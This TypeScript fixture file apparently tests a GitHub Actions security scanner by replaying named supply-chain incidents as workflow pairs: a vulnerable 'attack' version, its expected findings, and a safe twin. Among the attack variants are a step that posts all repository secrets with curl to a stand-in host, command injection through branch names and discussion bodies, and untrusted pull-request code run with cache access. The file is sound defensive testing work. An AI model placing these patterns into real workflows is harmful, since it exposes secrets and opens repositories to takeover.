// Attacks through workflows and actions.
import { lines, type Replay } from './replay.ts';

const COMMIT = '57a97c7e7821a5776cebc9bb87c984fa69cba8f1';
const PATH = '.github/workflows/ci.yml';

/** A workflow with one job of these steps. */
const workflow = (on: string, ...steps: readonly string[]): string =>
  lines(
    'name: ci',
    `on: ${on}`,
    'permissions: { contents: read }',
    'jobs:',
    '  one:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    ...steps.map((step) => `      ${step}`),
  );
const checkout = `- uses: actions/checkout@${COMMIT} # v4.2.2`;
const token = ['- run: ./publish', '  env: { NPM_TOKEN: "${{ secrets.NPM_TOKEN }}" }'];

/** An action of one step. */
const composite = (step: string): string =>
  lines('name: check', 'description: checks', 'runs:', '  using: composite', '  steps:', `    - ${step}`);

export const WORKFLOWS: readonly Replay[] = [
  {
    name: 'ultralytics, December 2024: a branch name that becomes a command',
    base: { [PATH]: workflow('pull_request_target', checkout) },
    attack: {
      [PATH]: workflow('pull_request_target', checkout, '- run: git pull origin ${{ github.head_ref }}'),
    },
    because: ['HIGH WORKFLOW-INJECTION'],
    twin: {
      [PATH]: workflow(
        'pull_request',
        checkout,
        '- run: git pull origin "$HEAD"',
        '  env: { HEAD: "${{ github.head_ref }}" }',
      ),
    },
  },
  {
    name: 'tj-actions, March 2025: an action by its tag in a job that holds a token',
    base: { [PATH]: workflow('push', checkout, ...token) },
    attack: { [PATH]: workflow('push', checkout, '- uses: someone/changed-files@v45', ...token) },
    because: ['MEDIUM WORKFLOW-UNPINNED-USE'],
    twin: {
      [PATH]: workflow('push', checkout, `- uses: someone/changed-files@${COMMIT} # v45.0.1`, ...token),
    },
  },
  {
    name: 'reviewdog, March 2025: a composite action that runs another by its tag, with the token of its caller',
    base: { 'action.yml': composite(`uses: reviewdog/action-setup@${COMMIT} # v1.3.2`) },
    attack: {
      [PATH]: workflow('push', checkout, '- uses: reviewdog/action-setup@v1', ...token),
      'action.yml': composite('uses: reviewdog/action-setup@v1'),
    },
    because: ['MEDIUM WORKFLOW-UNPINNED-USE'],
    twin: { 'action.yml': composite(`uses: reviewdog/action-setup@${'d'.repeat(40)} # v1.3.3`) },
  },
  {
    name: 'Shai-Hulud, September 2025: a workflow that sends all secrets',
    base: {},
    attack: {
      '.github/workflows/shai-hulud-workflow.yml': workflow(
        'push',
        '- run: curl -d "$CONTENTS" https://hook.example.invalid/x',
        '  env: { CONTENTS: "${{ toJSON(secrets) }}" }',
      ),
    },
    because: ['CRITICAL WORKFLOW-ALL-SECRETS'],
    twin: {
      '.github/workflows/report.yml': workflow(
        'push',
        '- run: echo "$CONTENTS" >> "$GITHUB_STEP_SUMMARY"',
        '  env: { CONTENTS: "${{ toJSON(matrix) }}" }',
      ),
    },
  },
  {
    name: 'Shai-Hulud 2, November 2025: a runner of the attacker, driven through discussions',
    base: {},
    attack: {
      '.github/workflows/discussion.yaml': workflow(
        'discussion',
        '- run: echo ${{ github.event.discussion.body }}',
      ).replace('ubuntu-latest', 'self-hosted'),
    },
    because: ['HIGH WORKFLOW-INJECTION', 'HIGH WORKFLOW-OPEN-RUNNER'],
    twin: { '.github/workflows/discussion.yaml': workflow('discussion', '- run: echo hello') },
  },
  {
    name: 'Trivy, March 2026: a pin that moves under the same version',
    base: { [PATH]: workflow('push', `- uses: someone/scanner@${COMMIT} # 0.35.0`, ...token) },
    attack: {
      [PATH]: workflow('push', `- uses: someone/scanner@${'d'.repeat(40)} # 0.35.0`, ...token),
    },
    because: ['HIGH WORKFLOW-MOVED-PIN'],
    twin: { [PATH]: workflow('push', `- uses: someone/scanner@${'d'.repeat(40)} # 0.36.0`, ...token) },
  },
  {
    name: 'KICS, March 2026: a scanner by a tag that was moved, in a job that holds a token',
    base: {
      [PATH]: workflow(
        'push',
        checkout,
        `- uses: checkmarx/kics-github-action@${COMMIT} # v2.1.20`,
        ...token,
      ),
    },
    attack: { [PATH]: workflow('push', checkout, '- uses: checkmarx/kics-github-action@v2.1.20', ...token) },
    because: ['MEDIUM WORKFLOW-UNPINNED-USE'],
    twin: {
      [PATH]: workflow(
        'push',
        checkout,
        `- uses: checkmarx/kics-github-action@${'d'.repeat(40)} # v2.1.21`,
        ...token,
      ),
    },
  },
  {
    name: 'TanStack, May 2026: code of pull requests in a job that may write the cache of releases',
    base: {},
    attack: {
      [PATH]: workflow(
        'pull_request_target',
        `- uses: actions/checkout@${COMMIT} # v4.2.2`,
        '  with: { ref: "${{ github.event.pull_request.head.sha }}" }',
        '- run: npm ci && npm run build',
        `- uses: actions/cache@${COMMIT} # v4.2.0`,
        '  with: { path: ~/.npm, key: npm }',
      ),
    },
    because: ['HIGH WORKFLOW-PULL-REQUEST-CODE'],
    twin: { [PATH]: workflow('pull_request', checkout, '- run: npm ci && npm run build') },
  },
];
